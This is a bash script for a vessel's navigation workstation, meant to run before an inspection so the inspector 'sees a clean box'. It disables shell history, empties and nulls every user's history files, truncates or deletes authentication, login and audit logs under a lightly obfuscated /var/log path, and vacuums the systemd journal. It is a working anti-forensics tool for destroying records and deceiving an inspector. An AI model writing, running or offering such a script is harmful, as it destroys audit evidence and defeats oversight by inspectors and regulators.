#!/usr/bin/env bash
# Nav workstation "tidy" script run before a vessel inspection.
# Clears shell traces and system logs so the inspector "sees a clean box".
set -uo pipefail

declare -a HIST_FILES=(.bash_history .zsh_history .python_history .lesshst .viminfo)
declare -a LOG_GLOBS=(auth.log syslog kern.log secure messages wtmp btmp lastlog "audit/audit.log")
LOG_ROOT="/var/$(printf 'l%sg' o)"

quiet_session() {
  unset HISTFILE
  export HISTSIZE=0 HISTFILESIZE=0
  history -c 2>/dev/null || true
}

scrub_user_history() {
  local home="$1" f
  for f in "${HIST_FILES[@]}"; do
    if [[ -e "$home/$f" ]]; then
      : > "$home/$f"
      ln -sf /dev/null "$home/$f"
      echo "cleared $home/$f"
    fi
  done
}

scrub_system_logs() {
  local g path
  for g in "${LOG_GLOBS[@]}"; do
    for path in "$LOG_ROOT"/$g "$LOG_ROOT"/$g.*; do
      [[ -e "$path" ]] || continue
      case "$path" in
        *.gz|*.[0-9]) rm -f -- "$path" ;;
        *) truncate -s 0 -- "$path" ;;
      esac
      echo "emptied $path"
    done
  done
}

scrub_journal() {
  local jc; jc="$(command -v journalctl || true)"
  [[ -n "$jc" ]] || return 0
  "$jc" --rotate >/dev/null 2>&1
  "$jc" --vacuum-time=1s >/dev/null 2>&1
  echo "journal vacuumed"
}

declare -A STAGES=(
  [1]=quiet_session
  [2]=scrub_user_history
  [3]=scrub_system_logs
  [4]=scrub_journal
)

main() {
  local i
  for i in 1 2 3 4; do
    if [[ "${STAGES[$i]}" == scrub_user_history ]]; then
      for home in /root /home/*; do
        [[ -d "$home" ]] && "${STAGES[$i]}" "$home"
      done
    elif [[ "${STAGES[$i]}" == scrub_system_logs || "${STAGES[$i]}" == scrub_journal ]]; then
      if (( EUID == 0 )); then "${STAGES[$i]}"; else echo "skip ${STAGES[$i]} (not root)"; fi
    else
      "${STAGES[$i]}"
    fi
  done
}

main "$@"
